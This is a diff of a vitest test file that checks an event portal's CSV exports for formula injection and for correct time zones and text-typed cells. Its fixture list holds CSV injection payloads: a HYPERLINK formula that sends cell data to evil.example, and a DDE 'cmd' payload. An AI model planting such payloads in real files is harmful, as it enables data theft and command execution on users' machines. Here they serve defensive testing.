@@ -1,10 +1,12 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { testDatabases } from '@portal/events/testing/databases';
-import { openCsv } from '../src/testing/csv.ts';
+import { openAsSpreadsheet, openCsv, serialToLocal } from '../src/testing/csv.ts';
 import { portalCalls } from '../src/testing/portal-calls.ts';
 import { type TestPortal, openTestPortal } from '../src/testing/test-portal.ts';
 
 const hour = 3600_000;
+/** Nothing a spreadsheet would run, except the text form of a number (`="0812345678"`). */
+const SAFE_CELL = /^(?![=+\-@\t\r＝＋－＠])|^="[\d\s.,:/+eE-]+"$/;
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   "+cmd|' /C calc'!A0",
@@ -27,8 +29,8 @@ describe.each(testDatabases())('formulas in the CSV exports on $name', (database
     portal = await openTestPortal(database);
   });
   afterAll(() => portal.close());
-  const download = async (url: string) =>
-    (await portal.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${portal.adminToken}` } })).body;
+  // As the console asks: after the caller's last write (read-your-writes).
+  const download = async (url: string) => (await call('GET', url, portal.adminToken)).body;
 
   it('neutralises every formula prefix in the registration export', async () => {
     for (const name of FORMULAS.filter((formula) => !/^[\t\r]/.test(formula))) await approvedMember(name);
@@ -36,8 +38,7 @@ describe.each(testDatabases())('formulas in the CSV exports on $name', (database
     const names = rows.map((row) => row[header.indexOf('Name')]);
     for (const formula of FORMULAS.filter((f) => !/^[\t\r]/.test(f))) expect(names).toContain(`'${formula}`);
     for (const row of rows) {
-      for (const cell of row)
-        expect(cell, `a cell a spreadsheet would run: ${cell}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+      for (const cell of row) expect(cell, `a cell a spreadsheet would run: ${cell}`).toMatch(SAFE_CELL);
     }
   });
 
@@ -55,8 +56,59 @@ describe.each(testDatabases())('formulas in the CSV exports on $name', (database
     expect(devices).toContain(`'=1+1`);
     expect(devices).toContain(`'@SUM(1+1)`);
     for (const row of rows) {
-      for (const cell of row)
-        expect(cell, `a cell a spreadsheet would run: ${cell}`).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
+      for (const cell of row) expect(cell, `a cell a spreadsheet would run: ${cell}`).toMatch(SAFE_CELL);
     }
+  });
+
+  const localParts = (iso: string, zone: string) =>
+    new Intl.DateTimeFormat('sv-SE', {
+      timeZone: zone,
+      dateStyle: 'short',
+      timeStyle: 'medium',
+    }).format(new Date(iso));
+
+  it('opens in a spreadsheet with ids and phones as text and dates as local date-times', async () => {
+    const person = await approvedMember('Zero Leading', { personalPhone: '0812345678' });
+    const sheet = openAsSpreadsheet(
+      await download(`/api/admin/registration/export.csv?search=${person.id}&tz=Asia/Bangkok`),
+    );
+    expect(sheet).toHaveLength(1);
+    const row = sheet[0]!;
+    expect(row['Phone']).toEqual({ type: 's', value: '0812345678' });
+    expect(row['Personal ID']).toEqual({ type: 's', value: person.person.personalId });
+    expect(row['Name']).toEqual({ type: 's', value: 'Zero Leading' });
+    // The registration moment, as a date and time in Bangkok (the screens show the browser's zone).
+    const listed = (await call('GET', `/api/admin/registration?search=${person.id}`, portal.adminToken)).json();
+    expect(row['Registration Date']!.type).toBe('n');
+    expect(serialToLocal(row['Registration Date']!.value as number)).toBe(
+      localParts(listed.members[0].createdAt, 'Asia/Bangkok'),
+    );
+    for (const cell of Object.values(row)) expect(cell.formula).toBeUndefined();
+  });
+
+  it('opens the scan audit with server and device times in the zone asked for', async () => {
+    const teacher = portal.adminToken;
+    const course = await courseWithRounds(teacher, [[-hour, hour]], 'Zones');
+    await call('PUT', `/api/admin/updateround/${course.rounds[0]}`, teacher, {
+      userId: 'nobody-here',
+      deviceId: '0099',
+      deviceTime: '2026-11-23T10:00:00.000Z',
+    });
+    const url = `/api/admin/audit/scans.csv?roundId=${course.rounds[0]}`;
+    const [inNewYork] = openAsSpreadsheet(await download(`${url}&tz=America/New_York`));
+    expect(serialToLocal(inNewYork!['Device time']!.value as number)).toBe('2026-11-23 05:00:00');
+    const [inBangkok] = openAsSpreadsheet(await download(url)); // Thailand's time by default
+    expect(serialToLocal(inBangkok!['Device time']!.value as number)).toBe('2026-11-23 17:00:00');
+    // A device id of digits keeps its leading zeros.
+    expect(inBangkok!['Device']).toEqual({ type: 's', value: '0099' });
+    expect(
+      (
+        await portal.app.inject({
+          method: 'GET',
+          url: `${url}&tz=Mars/Olympus`,
+          headers: { authorization: `Bearer ${teacher}` },
+        })
+      ).statusCode,
+    ).toBe(400);
   });
 });
